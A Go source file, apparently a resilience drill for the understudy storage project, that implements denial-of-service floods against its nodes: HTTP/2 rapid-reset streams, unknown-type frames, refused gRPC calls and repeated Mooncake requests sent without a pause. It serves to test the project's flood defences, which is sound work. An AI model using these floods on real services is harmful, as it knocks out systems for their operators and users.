package drill

import (
	"bytes"
	"cmp"
	"context"
	"io"
	"net"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	pb "github.com/understudy-store/understudy/api/understudy/v1"
	"github.com/understudy-store/understudy/internal/mooncake"
	"github.com/understudy-store/understudy/internal/mooncake/structpack"
)

// The attacks of peers that send small frames of HTTP/2, calls or requests without a pause, which
// cost the node far more processor time than them.

const (
	floodPeers  = 20
	floodFrames = 1000 // that are written at once
	ownFrame    = 99   // a type that nobody knows
)

// floods returns these attacks on nodes that speak a generation of Mooncake's protocol.
func floods(generation string) []attack {
	return []attack{
		{what: "calls without a pause", at: direct, run: flood(refusedCalls), shows: "flood-slots"},
		{what: "requests without a pause", at: direct, run: floodRequests(generation)},
		{what: "frames of an unknown type", at: direct, run: flood(unknownFrames), peers: floodPeers},
		{what: "calls that are reset at once", at: direct, run: flood(resetCalls), shows: "frame-pace"},
	}
}

// flood writes frames without end. When its connection is closed it opens the next one. frames
// returns those that are written next, from a stream on.
func flood(frames func(to *http2.Framer, stream uint32)) func(context.Context, string) {
	return func(ctx context.Context, address string) {
		for ctx.Err() == nil {
			onSocket(ctx, address, func(c net.Conn) {
				go func() { _, _ = io.Copy(io.Discard, c) }() // ends with the connection
				_, err := io.WriteString(c, http2.ClientPreface)
				if err == nil {
					err = http2.NewFramer(c, nil).WriteSettings()
				}
				var b bytes.Buffer
				for stream := uint32(1); err == nil && stream < 1<<30; stream += 2 * floodFrames {
					b.Reset()
					frames(http2.NewFramer(&b, nil), stream)
					_, err = c.Write(b.Bytes())
				}
			})
		}
	}
}

func unknownFrames(to *http2.Framer, _ uint32) {
	for range floodFrames {
		do(to.WriteRawFrame(ownFrame, 0, 0, nil))
	}
}

// floodRequests asks for a key without end, and reads what is answered.
func floodRequests(generation string) func(context.Context, string) {
	g, _ := mooncake.NewGeneration(cmp.Or(generation, mooncake.Names()[0]))
	args := mooncake.Args{Key: repeatedKey}
	frame := mooncakeFrame(g.ExistKey.ID, structpack.Pack(new(structpack.Writer), nil, g.ExistKey.Args, &args))
	return func(ctx context.Context, address string) {
		onSocket(ctx, address, func(c net.Conn) {
			go func() { _, _ = io.Copy(io.Discard, c) }() // ends with the connection
			for requests, err := bytes.Repeat(frame, floodFrames), error(nil); err == nil; {
				_, err = c.Write(requests)
			}
		})
	}
}

func refusedCalls(to *http2.Framer, stream uint32) {
	headers := headersOf("/understudy.v1.AdminService/None")
	for i := range uint32(floodFrames) {
		do(to.WriteHeaders(http2.HeadersFrameParam{StreamID: stream + 2*i, BlockFragment: headers, EndHeaders: true, EndStream: true}))
	}
}

func resetCalls(to *http2.Framer, stream uint32) {
	headers := headersOf(pb.AdminService_Status_FullMethodName)
	for i := range uint32(floodFrames) {
		do(to.WriteHeaders(http2.HeadersFrameParam{StreamID: stream + 2*i, BlockFragment: headers, EndHeaders: true}))
		do(to.WriteRSTStream(stream+2*i, http2.ErrCodeCancel))
	}
}

// headersOf returns the headers of a call, which are the same each time.
func headersOf(method string) []byte {
	var headers bytes.Buffer
	encoder := hpack.NewEncoder(&headers)
	encoder.SetMaxDynamicTableSize(0)
	for _, f := range [][2]string{{":method", "POST"}, {":scheme", "http"}, {":path", method}, {":authority", "x"}, {"content-type", "application/grpc"}, {"te", "trailers"}} {
		do(encoder.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]}))
	}
	return headers.Bytes()
}
